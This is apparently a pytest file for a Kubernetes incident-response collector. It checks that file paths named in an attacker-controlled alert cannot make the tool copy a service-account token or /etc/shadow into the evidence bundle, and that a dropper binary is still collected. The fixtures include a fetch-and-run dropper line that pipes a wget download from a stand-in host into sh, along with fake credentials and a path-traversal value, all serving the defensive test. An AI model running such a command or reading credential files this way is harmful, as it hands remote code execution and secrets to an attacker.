"""The binary collector and a path the alert names: the alert's text is the attacker's,
so it cannot have falcoir copy a secret into the bundle (finding 12)."""

from __future__ import annotations

from pathlib import Path

import pytest

from falcoir.core.alert import Alert, Process
from falcoir.core.collect import CollectOptions, CollectorStatus, run_collect, target_from_pod
from falcoir.core.incident import IncidentStore
from falcoir.core.target import PodRef
from tests.collect.support import NS, POD, tmp_hex
from tests.collect.test_collect_scripted import cluster_with, miner_container

TOKEN = b"eyJhbGciOiJSUzI1NiJ9.secret-token"
DROPPER = b"#!/bin/sh\nwget -qO- http://pool.example.com/x | sh\n"
SHADOW = b"root:$6$secret:19000:0:99999:7:::\n"


def collect_for(tmp_path: Path, exepath: str):  # type: ignore[no-untyped-def]
    box = miner_container()
    box.files.update(
        {
            "/var/run/secrets/kubernetes.io/serviceaccount/token": TOKEN,
            "/etc/shadow": SHADOW,
            "/tmp/dropper": DROPPER,
        }
    )
    cluster = cluster_with(box)
    alert = Alert(
        raw="x",
        source_format="text",
        rule="Drop and execute new binary",
        process=Process(name="gone", exepath=exepath, pid=99999),
    )
    res = run_collect(
        cluster,
        target_from_pod(cluster, PodRef(NS, POD)),
        alert=alert,
        out_dir=tmp_path / "evidence",
        options=CollectOptions(),
        store=IncidentStore(tmp_path / "home"),
    )
    return res, cluster


def bundle_bytes(res) -> bytes:  # type: ignore[no-untyped-def]
    return b"".join(p.read_bytes() for p in res.bundle.dir.rglob("*") if p.is_file())


@pytest.mark.parametrize(
    ("exepath", "secret"),
    [
        ("/var/run/secrets/kubernetes.io/serviceaccount/token", TOKEN),
        ("//var/run/../run/secrets/kubernetes.io/serviceaccount/token", TOKEN),
        ("/etc/shadow", SHADOW),
    ],
)
def test_a_secret_the_alert_names_is_not_copied(
    tmp_path: Path, exepath: str, secret: bytes
) -> None:
    res, cluster = collect_for(tmp_path, exepath)
    binary = next(c for c in res.collectors if c.name == "binary")
    assert binary.status is not CollectorStatus.OK
    assert res.binary is None or res.binary.sha256 is None
    assert secret not in bundle_bytes(res)
    cats = [c for c in cluster.calls if c[0] == "exec" and c[5] == "cat"]
    assert not any("shadow" in c[-1] or "token" in c[-1] for c in cats), cats


def test_an_executable_the_alert_names_is_copied_and_labelled(tmp_path: Path) -> None:
    # the dropper has exited: no process runs it, and the file is still there
    res, _ = collect_for(tmp_path, "/tmp/dropper")
    binary = next(c for c in res.collectors if c.name == "binary")
    assert binary.status is CollectorStatus.OK
    assert res.binary is not None and res.binary.sha256 == tmp_hex(DROPPER)
    assert "alert-named file" in (binary.note or "")
